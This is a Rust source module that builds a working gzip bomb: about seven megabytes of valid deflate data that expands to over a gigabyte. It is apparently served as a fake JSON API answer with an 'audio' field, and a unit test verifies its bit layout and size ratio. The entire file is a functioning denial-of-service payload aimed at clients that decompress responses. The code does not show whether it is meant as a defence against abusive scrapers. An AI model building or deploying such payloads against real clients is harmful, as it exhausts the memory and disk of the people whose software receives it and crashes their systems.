//! A gzip bomb: an answer of seven megabytes that says it is compressed and expands to more than a gigabyte.
//!
//! Knows nothing of HTTP. It is sound deflate (RFC 1951): a stored block with the head of an answer, then one block of
//! fixed codes that repeats its last digit, 258 bytes for 13 bits. Only the checksum at its end is not computed: nobody
//! who gets that far needs it.

/// gzip, deflate, no flags, no time, unknown system (RFC 1952).
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
/// The head of an answer, up to the first digit of its audio.
const HEAD: &[u8; 19] = b"{\"data\":{\"audio\":\"0";
/// "Repeat the last byte 258 times" in fixed codes, first bit first: length 258, distance 1.
const REPEAT: [u8; 13] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0];
/// A block of fixed codes that is not the last: its final bit, then its type, lowest bit first.
const BLOCK: [u8; 3] = [0, 1, 0];
/// How often eight repetitions follow each other. They fill 13 bytes and expand to 2,064.
pub(super) const CYCLES: usize = 520_800;

/// What comes before the repetitions: it ends in their midst.
pub(super) fn head() -> Vec<u8> {
    let length = u8::try_from(HEAD.len()).expect("a few letters");
    let mut bytes = HEADER.to_vec();
    bytes.extend([0, length, 0, !length, 0xff]);
    bytes.extend_from_slice(HEAD);
    bytes.extend(packed(0));
    bytes
}

/// One cycle of repetitions.
pub(super) fn cycle() -> [u8; 13] {
    packed(13)
}

/// Thirteen bytes of the block of fixed codes, from its byte `start` on.
fn packed(start: usize) -> [u8; 13] {
    let bit = |index: usize| match index.checked_sub(BLOCK.len()) {
        None => BLOCK[index],
        Some(index) => REPEAT[index % REPEAT.len()],
    };
    std::array::from_fn(|byte| (0..8).fold(0, |bits, place| bits | (bit((start + byte) * 8 + place) << place)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_bits_are_those_that_a_decoder_expects() {
        let head = head();
        assert_eq!(head.len(), 10 + 5 + 19 + 13);
        assert_eq!(head[10..15], [0, 19, 0, 236, 255], "a stored block of nineteen bytes");
        // 010 for the block, then 1100010100000 over and over, each byte filled from its lowest bit.
        assert_eq!(head[34..37], [0b0001_1010, 0b0000_0101, 0b1010_0011]);
        assert_eq!(packed(13), packed(26), "a cycle ends where it began");
        const { assert!(CYCLES * 8 * 258 > 1 << 30 && CYCLES * 13 < 7 << 20) };
    }
}
